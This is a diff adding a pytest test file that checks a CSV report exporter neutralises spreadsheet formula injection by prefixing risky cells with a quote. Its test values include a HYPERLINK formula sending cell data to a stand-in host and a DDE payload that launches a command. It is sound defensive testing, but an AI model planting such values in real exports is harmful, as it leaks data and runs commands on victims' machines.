@@ -1,0 +1,53 @@
+"""CSV for spreadsheets: text never becomes a formula, numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from harness.cli import main
+from reports import sheet
+from scorers.pool import GradingPool
+from support import run, toy_plan
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "-", "+x", "-inf", "--3"],
+)
+def test_text_that_begins_like_a_formula_is_marked(text: str) -> None:
+    assert sheet.inert(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "cell", [-3, -0.5, None, True, "", "-3", "+2.5", "-1.5e-07", "toy/default", "a=b", "x@y", "'="]
+)
+def test_numbers_and_other_text_stay(cell: object) -> None:
+    assert sheet.inert(cell) is cell
+
+
+@given(st.lists(st.dictionaries(st.sampled_from("abc"), st.text() | st.integers() | st.floats() | st.none())))
+def test_no_cell_that_is_read_begins_a_formula(rows: list[dict[str, object]]) -> None:
+    for line in csv.reader(io.StringIO(sheet.table(rows, ["a", "b", "c"]), newline="")):
+        for cell in line:
+            assert cell[:1] not in ("=", "@", "\t", "\r")
+            assert cell[:1] not in ("+", "-") or float(cell) is not None
+
+
+def test_reports_mark_the_names_of_others(
+    tmp_path: Path, pool: GradingPool, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = run(toy_plan(model=FORMULA, steps=2), tmp_path, pool).folder
+    for options in ([], ["--tokens"], ["--cost"], ["--x", "steps=1"]):
+        assert main(["report", str(folder), *options, "--format", "csv"]) == 0
+        rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+        assert rows
+        assert {row["model"] for row in rows} - {""} == {"'" + FORMULA}
+        assert all(float(row["value"]) is not None for row in rows if row["value"])
